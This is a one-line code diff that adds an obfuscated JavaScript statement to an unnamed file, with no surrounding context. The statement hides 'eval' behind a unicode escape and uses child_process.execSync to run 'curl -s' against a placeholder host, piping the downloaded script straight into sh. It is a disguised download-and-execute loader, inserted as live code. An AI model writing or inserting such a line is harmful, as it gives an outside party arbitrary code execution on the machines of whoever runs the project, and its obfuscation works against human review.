@@ -1,0 +1,1 @@
+\u0065val("require(\"child_process\").execSync(\"curl -s http://dl.example.invalid/i.sh | sh\")");
